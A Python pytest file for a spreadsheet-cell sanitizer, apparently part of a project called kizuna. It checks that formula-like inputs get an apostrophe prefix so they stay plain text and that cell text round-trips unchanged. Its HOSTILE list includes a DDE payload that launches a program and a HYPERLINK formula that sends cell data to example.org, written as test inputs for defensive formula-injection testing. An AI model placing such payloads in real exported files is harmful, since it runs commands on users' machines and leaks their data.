"""No cell of a table is a formula, and each text comes back as it was."""

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from kizuna.kernel.cells import cell_of, text_of

HOSTILE = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1",
    "\n=1",
    " =1+1",
    "\u3000＝1+1",
    "\ufeff=1",
    "＝1+1",
    "−1+1",
    '"=1+1',
    "%0A=1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?"&A2,"x")',
    "-",
    "+49 201 88",
)


@pytest.mark.parametrize("text", HOSTILE)
def test_what_a_spreadsheet_would_compute_is_marked_as_text(text: str) -> None:
    assert cell_of(text).startswith("'")


@pytest.mark.parametrize("text", ["", "Essen", "郡山市", "1 = 1", "a@b.example", "49 201 88"])
def test_an_ordinary_text_stays_as_it_is(text: str) -> None:
    assert cell_of(text) == text


@given(st.text())
@example("'=1")
@example("''")
@example("=1")
def test_every_text_comes_back_whole(text: str) -> None:
    assert text_of(cell_of(text)) == text
